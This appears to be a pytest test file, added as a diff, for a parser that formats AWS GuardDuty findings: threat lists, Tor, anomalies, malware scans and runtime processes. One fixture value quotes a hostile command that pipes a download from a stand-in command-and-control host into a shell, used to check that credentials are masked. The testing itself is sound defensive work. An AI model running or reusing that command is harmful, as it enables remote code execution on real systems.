@@ -1,0 +1,121 @@
+"""Why GuardDuty says so: runtime, malware, threat lists, unusual behaviour, and what it adds next year."""
+
+import pytest
+
+from chalicelib.finding import Detail, Form, Process, parse
+from tests.generate import Json, envelope, example
+
+
+def with_service(**service: Json) -> Json:
+    least = {"id": "1", "type": "A:B/C", "severity": 5, "accountId": "111122223333", "region": "eu-west-1"}
+    return envelope({**least, "service": service})
+
+
+def said(event: Json, label: str) -> list[str]:
+    return [detail.value for detail in parse(event).details if detail.label == label]
+
+
+@pytest.mark.parametrize(
+    ("name", "label", "values"),
+    [
+        pytest.param("example", "threat_list", ["Example threat list"], id="list-named-twice-told-once"),
+        pytest.param("ec2-port-probe", "threat_name", ["Scanner"], id="threat-of-additional-info"),
+        pytest.param("iam-user-tor", "tor", ["yes"], id="tor"),
+        pytest.param("example", "tor", [], id="no-tor"),
+        pytest.param(
+            "iam-user-anomaly",
+            "unusual",
+            [
+                "User identity ASN organisation: Example Hosting AS (unseen)",
+                "User identity API: ListUsers, ListRoles (infrequent)",
+                "anomalousAPIs: iam.amazonaws.com:[ListUsers:AccessDenied]",
+            ],
+            id="anomaly",
+        ),
+        pytest.param("iam-user-tor", "unusual", ["isps: Example Tor", "hoursOfDay: 3"], id="older-unusual"),
+        pytest.param(
+            "ebs-malware", "malware", ["Trojan.Example", "EICAR-Test-File"], id="worst-threat-first"
+        ),
+        pytest.param(
+            "ebs-malware",
+            "infected_file",
+            ["/var/tmp/.x/kworker", "/home/ec2-user/eicar.com"],
+            id="infected-files",
+        ),
+        pytest.param("ebs-malware", "files_infected", ["3"], id="counts"),
+        pytest.param(
+            "ebs-malware", "scan_completed", ["2026-11-20T08:40:00+00:00"], id="scan-time-in-millis"
+        ),
+        pytest.param("s3-object-malware", "malware", ["EICAR-Test-File (not a virus)"], id="object-malware"),
+        pytest.param("s3-object-malware", "infected_file", ["invoice.zip/run.exe"], id="nested-file"),
+        pytest.param("snapshot-malware", "infected_file", ["/opt/app/run"], id="snapshot-file"),
+        pytest.param("runtime-container", "lineage", ["/usr/sbin/nginx ← /sbin/init"], id="lineage"),
+        pytest.param("runtime-container", "socket", ["/var/run/docker.sock"], id="runtime-context"),
+        pytest.param(
+            "runtime-container",
+            "command_line",
+            ["sh -c 'curl -H \"Authorization: Bearer ••••\" https://c2.example.com | sh --token ••••'"],
+            id="command-line-without-credentials",
+        ),
+        pytest.param("unknown-kind", "newMember.deep.deeper", ["value"], id="new-additional-info"),
+        pytest.param(
+            "unknown-kind", "entanglementDetails.partner", ["example-partner"], id="new-service-member"
+        ),
+        pytest.param("unknown-kind", "superposition.states", ["up", "down"], id="new-detection"),
+        pytest.param("hostile", "apiToken", ["••••"], id="member-named-like-a-credential"),
+        pytest.param("hostile", "channel", ["*bold*"], id="hostile-member-name"),
+    ],
+)
+def test_evidence(name: str, label: str, values: list[str]) -> None:
+    assert said(example(name), label) == values
+
+
+def test_processes() -> None:
+    own, modifying, target = parse(example("runtime-container")).processes
+    assert (own.name, own.path, own.pid, own.user) == ("sh", "/usr/bin/dash", "4242", "www-data")
+    assert (own.parent, len(own.sha256), own.role) == ("/usr/sbin/nginx", 64, "")
+    assert modifying == Process(name="sh", path="/usr/bin/dash", pid="4242", role="modifying")
+    assert target == Process(name="nginx", path="/usr/sbin/nginx", pid="4200", role="target")
+
+
+@pytest.mark.parametrize(
+    "name", [pytest.param("TorIPCaller", id="tor"), pytest.param("TorClient", id="client")]
+)
+def test_tor_by_type(name: str) -> None:
+    event = with_service()
+    event["detail"]["type"] = f"UnauthorizedAccess:EC2/{name}"
+    assert said(event, "tor") == ["yes"]
+
+
+@pytest.mark.parametrize(
+    ("listed", "tor"),
+    [
+        pytest.param("Tor exit nodes", ["yes"], id="word"),
+        pytest.param("Torrent trackers", [], id="torrent"),
+        pytest.param("history", [], id="inside-a-word"),
+    ],
+)
+def test_tor_by_list(listed: str, tor: list[str]) -> None:
+    assert said(with_service(additionalInfo={"threatListName": listed}), "tor") == tor
+
+
+def test_what_guardduty_adds_is_bounded() -> None:
+    info = {f"member{number}": {"a": number, "b": [number] * 50} for number in range(5_000)}
+    assert len(parse(with_service(additionalInfo=info)).details) == 25
+
+
+def test_long_lists_say_how_many_more() -> None:
+    threats = [{"name": f"Trojan.{number}"} for number in range(130)]
+    details = parse(with_service(malwareScanDetails={"threats": threats})).details
+    assert len(details) == 26
+    assert details[-1] == Detail("more", "105", Form.TEXT)
+
+
+@pytest.mark.parametrize(
+    "wrong", [None, [], "x", 7, {"scanDetections": 7}, {"threats": "x"}, {"process": []}]
+)
+def test_wrong_shapes_say_less(wrong: Json) -> None:
+    names = ("evidence", "ebsVolumeScanDetails", "malwareScanDetails", "runtimeDetails", "detection")
+    finding = parse(with_service(**dict.fromkeys(names, wrong)))
+    assert finding.processes == ()
+    assert finding.action == ()
